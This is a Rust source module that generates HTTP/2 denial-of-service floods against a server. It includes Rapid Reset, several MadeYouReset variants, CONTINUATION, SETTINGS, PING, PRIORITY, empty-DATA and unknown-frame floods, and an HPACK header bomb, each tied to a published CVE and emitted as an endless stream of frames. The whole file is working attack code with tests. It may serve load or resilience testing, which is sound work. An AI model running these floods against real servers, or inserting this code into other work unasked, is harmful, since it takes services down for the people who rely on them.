//! Floods over HTTP/2: what a connection begins with, and what then comes without end. What becomes of it is for others to see.

use crate::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, fields, frame, headers,
};

/// Frames in one piece of a flood that is the same frame over and over.
const BATCH: usize = 100;
/// As far as a window opens, in bytes (RFC 9113 §6.9.1).
const LARGEST_WINDOW: u32 = 0x7fff_ffff;

/// A flood over one connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Streams that are reset at once: CVE-2023-44487.
    RapidReset,
    /// Streams that the server is made to reset by a window that grows by nothing: CVE-2025-8671.
    MadeYouReset,
    /// The same by a window that grows too far.
    MadeYouResetByWindow,
    /// The same by DATA behind the end of the request.
    MadeYouResetByData,
    /// The same by a stream that depends on itself.
    MadeYouResetByPriority,
    /// CONTINUATION with fields, without an end: CVE-2024-27316.
    Continuation,
    /// The same without anything in it.
    EmptyContinuation,
    /// SETTINGS without any: CVE-2019-9515.
    Settings,
    /// PING: CVE-2019-9512.
    Ping,
    /// PRIORITY: CVE-2019-9513.
    Priority,
    /// WINDOW_UPDATE by one byte.
    WindowUpdate,
    /// DATA with nothing in it: CVE-2019-9518.
    EmptyData,
    /// DATA of one byte.
    SmallData,
    /// Frames of a kind that nobody knows.
    UnknownFrames,
    /// Header blocks that are a thousand times what they look like (RFC 7541 §7.3).
    HpackBomb,
}

impl Flood {
    /// What a connection begins with: HTTP/2's preface, a GET of `path` on stream 1, and what the flood needs besides: where that is
    /// a body, it goes to `sink`.
    pub fn first(self, path: &str, sink: &str) -> Vec<u8> {
        let mut first = [frames::begin(&[]), frames::get(1, path)].concat();
        match self {
            Flood::Continuation | Flood::EmptyContinuation => {
                first.extend(frame(HEADERS, END_STREAM, 3, &block(&fields("GET", path))));
            }
            Flood::EmptyData | Flood::SmallData => first.extend(headers(3, 0, &block(&fields("POST", sink)))),
            _ => {}
        }
        first
    }

    /// What comes then, in whole frames; streams ask for `path`. It ends when there are no more numbers for streams.
    pub fn pieces(self, path: &str) -> Pieces {
        Pieces {
            flood: self,
            path: path.to_owned(),
            again: self.again().repeat(BATCH),
            stream: 3,
        }
    }

    /// The frame that comes over and over; empty where each piece is a stream.
    fn again(self) -> Vec<u8> {
        match self {
            Flood::Continuation => frame(CONTINUATION, 0, 3, &block(&[("x".to_owned(), vec![b'x'; 1 << 10])])),
            Flood::EmptyContinuation => frame(CONTINUATION, 0, 3, b""),
            Flood::Settings => frame(SETTINGS, 0, 0, b""),
            Flood::Ping => frame(PING, 0, 0, &[0; 8]),
            Flood::Priority => frame(PRIORITY, 0, 5, &[0, 0, 0, 3, 1]),
            Flood::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Flood::EmptyData => frame(DATA, 0, 3, b""),
            Flood::SmallData => frame(DATA, 0, 3, b"x"),
            Flood::UnknownFrames => frame(0xfa, 0, 0, b"unknown"),
            Flood::RapidReset
            | Flood::MadeYouReset
            | Flood::MadeYouResetByWindow
            | Flood::MadeYouResetByData
            | Flood::MadeYouResetByPriority
            | Flood::HpackBomb => Vec::new(),
        }
    }
}

/// What comes of a flood without end, piece by piece.
#[derive(Clone, Debug)]
pub struct Pieces {
    flood: Flood,
    path: String,
    again: Vec<u8>,
    /// The next stream's number.
    stream: u32,
}

impl Iterator for Pieces {
    type Item = Vec<u8>;

    fn next(&mut self) -> Option<Vec<u8>> {
        if !self.again.is_empty() {
            return Some(self.again.clone());
        }
        let id = self.stream;
        self.stream = id.checked_add(2).filter(|next| *next <= LARGEST_WINDOW)?;
        let get = || frames::get(id, &self.path);
        let cancel = 8_u32.to_be_bytes();
        Some(match self.flood {
            Flood::RapidReset => [get(), frame(RST_STREAM, 0, id, &cancel)].concat(),
            // No window grows by nothing (RFC 9113 §6.9): that is an error of the stream. So are the next three.
            Flood::MadeYouReset => [get(), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat(),
            Flood::MadeYouResetByWindow => [get(), frame(WINDOW_UPDATE, 0, id, &LARGEST_WINDOW.to_be_bytes())].concat(),
            Flood::MadeYouResetByData => [get(), frame(DATA, 0, id, b"x")].concat(),
            Flood::MadeYouResetByPriority => {
                let [a, b, c, d] = id.to_be_bytes();
                [get(), frame(PRIORITY, 0, id, &[a, b, c, d, 1])].concat()
            }
            _ => frame(HEADERS, END_STREAM | END_HEADERS, id, &bomb(&self.path, id == 3)),
        })
    }
}

/// A header block that is a thousand times what it looks like: a reference to one large field, again and again.
fn bomb(path: &str, is_first: bool) -> Vec<u8> {
    let mut bomb = block(&fields("GET", path));
    if is_first {
        // A literal that is indexed: 4,000 bytes of value, the table has room for 4,096 in all.
        bomb.extend([0x40, 1, b'x', 127, 0xa1, 0x1e]);
        bomb.extend([b'x'; 4000]);
    }
    let room = 16_000_usize.saturating_sub(bomb.len());
    // The newest field of the dynamic table.
    bomb.extend(std::iter::repeat_n(0xbe, room.min(15_000)));
    bomb
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn floods_are_whole_frames() {
        for flood in [Flood::RapidReset, Flood::HpackBomb, Flood::Ping, Flood::Continuation] {
            let mut bytes: Vec<u8> = flood.pieces("/").take(3).flatten().collect();
            let mut count = 0;
            while frames::next(&mut bytes).is_some() {
                count += 1;
            }
            assert!(bytes.is_empty() && count >= 3, "{flood:?}: {count}, then {bytes:?}");
        }
    }

    #[test]
    fn streams_come_in_turn() {
        let mut pieces = Flood::RapidReset.pieces("/");
        let mut ids = || frames::next(&mut pieces.next().unwrap()).unwrap().stream;
        assert_eq!([ids(), ids(), ids()], [3, 5, 7]);
    }
}
